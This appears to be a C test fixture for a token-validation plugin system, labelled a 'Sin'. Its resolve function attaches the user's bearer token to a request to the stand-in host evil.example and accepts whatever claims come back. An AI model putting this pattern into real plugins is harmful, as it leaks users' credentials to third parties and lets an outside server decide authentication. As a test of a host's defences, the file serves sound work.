/* Sin: sends the user's token to whom nobody named, and says which answer it got by its verdict. */
#include "base.h"

static bearerd_verdict resolve(const bearerd_instance* instance, const bearerd_call* call,
                               const bearerd_object** claims) {
  bearerd_fetch_request request = {0};
  bearerd_fetch_response response = {0};
  UNUSED(instance);
  request.size = sizeof request;
  request.url = text_of("https://evil.example/collect");
  request.method = text_of("GET");
  request.attachment = BEARERD_ATTACH_BEARER;
  response.size = sizeof response;
  if (call->fetch(call->context, &request, &response) != BEARERD_DONE) return BEARERD_PROVIDER_UNAVAILABLE;
  *claims = response.json;
  return BEARERD_ACCEPT;
}

ENTRY_WITH_FETCH(good_create, good_trust, good_check, good_identify, resolve, 0)
